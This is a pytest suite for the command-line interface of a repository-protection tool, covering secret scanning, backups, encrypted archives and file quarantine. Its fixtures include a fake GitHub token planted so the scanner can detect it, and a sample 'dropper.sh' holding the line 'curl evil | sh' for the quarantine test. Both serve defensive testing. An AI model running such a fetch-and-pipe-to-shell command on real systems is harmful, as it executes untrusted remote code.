"""Tests for the command-line interface."""

import json
import logging
import re
import signal

import pytest
import yaml
from click.testing import CliRunner

from repo_guard.cli import cli


GITHUB_TOKEN = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"


@pytest.fixture(autouse=True)
def restore_process_state():
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    sigint, sigterm = signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGTERM)
    yield
    signal.signal(signal.SIGINT, sigint)
    signal.signal(signal.SIGTERM, sigterm)
    for handler in root.handlers[:]:
        if handler not in handlers:
            root.removeHandler(handler)
            handler.close()
    for handler in handlers:
        if handler not in root.handlers:
            root.addHandler(handler)
    root.setLevel(level)


@pytest.fixture
def config_file(tmp_path, projects_dir):
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "todo.txt").write_text("rotate keys\n")
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump({
        'search_roots': [str(projects_dir)],
        'state_dir': str(tmp_path / 'state'),
        'archive': {
            'key_file': str(tmp_path / 'keys' / 'backup-key.txt'),
            'backup_sets': {'notes': {'paths': [str(notes)]}},
        },
    }))
    return path


def invoke(config_file, *args, **kwargs):
    return CliRunner().invoke(cli, ['--config', str(config_file), *args], **kwargs)


class TestValidateConfig:
    def test_valid(self, config_file):
        result = invoke(config_file, 'validate-config')
        assert result.exit_code == 0
        assert "Configuration loaded successfully" in result.output
        assert "Backup sets: notes" in result.output

    def test_invalid(self, tmp_path):
        bad = tmp_path / "bad.yaml"
        bad.write_text(yaml.safe_dump({'search_roots': []}))
        result = invoke(bad, 'validate-config')
        assert result.exit_code == 1
        assert "validation failed" in result.output


class TestRepositoryCommands:
    def test_status_json(self, config_file, repo_factory):
        repo_factory("alpha")
        result = CliRunner().invoke(cli, ['--config', str(config_file), '--log-level', 'ERROR',
                                          'status', '-o', 'json'])
        assert result.exit_code == 0
        payload = json.loads(result.stdout)
        assert payload[0]['name'] == 'alpha'
        assert payload[0]['ahead'] is None

    def test_status_table(self, config_file, repo_factory):
        (repo_factory("alpha") / "new.txt").write_text("x\n")
        result = invoke(config_file, 'status')
        assert "alpha" in result.output
        assert "CHANGES" in result.output

    def test_status_table_truncates_long_names(self, config_file, repo_factory):
        repo_factory("a-very-long-repository-name-for-status")
        result = invoke(config_file, '--log-level', 'ERROR', 'status')
        assert "a-very-long-repository-na..." in result.output
        assert "a-very-long-repository-name-for-status" not in result.output

    def test_backup(self, config_file, repo_factory):
        (repo_factory("alpha") / "README.md").write_text("edited\n")
        result = invoke(config_file, 'backup', '--no-save')
        assert result.exit_code == 0
        assert "auto_commit=done" in result.output
        assert "push=degraded" in result.output

    def test_backup_rejects_non_repository(self, config_file, tmp_path):
        result = invoke(config_file, 'backup', '--repo', str(tmp_path))
        assert result.exit_code == 1
        assert "Not a git repository" in result.output

    def test_scan_prints_each_repository(self, config_file, repo_factory):
        repo_factory("alpha")
        (repo_factory("beta") / "deploy.txt").write_text(f"auth {GITHUB_TOKEN}\n")

        result = invoke(config_file, 'scan')

        assert result.exit_code == 0
        assert "alpha: secrets=Clean" in result.output
        assert re.search(r"beta: secrets=\d+ found", result.output)
        assert "dependencies=N/A" in result.output
        assert "integrity=Clean" in result.output
        assert "Scanned 2 repositories, 1 with findings" in result.output
        assert "Report:" in result.output
        assert GITHUB_TOKEN not in result.output

    def test_scan_without_saving_prints_report(self, config_file, repo_factory):
        repo_factory("alpha")
        result = invoke(config_file, 'scan', '--no-save')
        assert result.exit_code == 0
        assert "alpha: secrets=Clean" in result.output
        assert "# Security Scan Report" in result.output
        assert "Report:" not in result.output


class TestArchiveCommands:
    def test_create_list_verify_restore(self, config_file, tmp_path):
        created = invoke(config_file, 'archive', 'create')
        assert created.exit_code == 0
        assert "✅ notes" in created.output

        archives = list((tmp_path / 'state' / 'archives').glob("notes-*.tar.gz.enc"))
        assert len(archives) == 1
        name = archives[0].name

        listed = invoke(config_file, 'archive', 'list')
        assert name in listed.output
        assert "complete" in listed.output

        verified = invoke(config_file, 'archive', 'verify', name)
        assert verified.exit_code == 0
        assert "Archive verified" in verified.output

        target = tmp_path / "restored"
        restored = invoke(config_file, 'archive', 'restore', name, '-o', str(target))
        assert restored.exit_code == 0
        notes = tmp_path / "notes" / "todo.txt"
        assert (target / str(notes).lstrip("/")).read_text() == "rotate keys\n"

    def test_status_and_key(self, config_file):
        status = invoke(config_file, 'archive', 'status')
        assert "Encryption key: Not generated" in status.output
        key = invoke(config_file, 'archive', 'key')
        assert "Key will be generated on first archive run" in key.output

    def test_verify_unknown_archive(self, config_file):
        result = invoke(config_file, 'archive', 'verify', 'notes-20000101_000000.tar.gz.enc')
        assert result.exit_code == 1
        assert "Archive not found" in result.output


class TestQuarantineCommands:
    def test_add_list_remove(self, config_file, tmp_path):
        suspicious = tmp_path / "dropper.sh"
        suspicious.write_text("curl evil | sh\n")

        added = invoke(config_file, 'quarantine', 'add', str(suspicious), '--reason', 'unexpected')
        assert added.exit_code == 0
        assert suspicious.exists()

        listed = invoke(config_file, 'quarantine', 'list')
        copy_path = [line for line in listed.output.splitlines() if line.endswith("dropper.sh")][0]

        removed = invoke(config_file, 'quarantine', 'remove', copy_path, '--yes')
        assert removed.exit_code == 0
        assert not suspicious.exists()
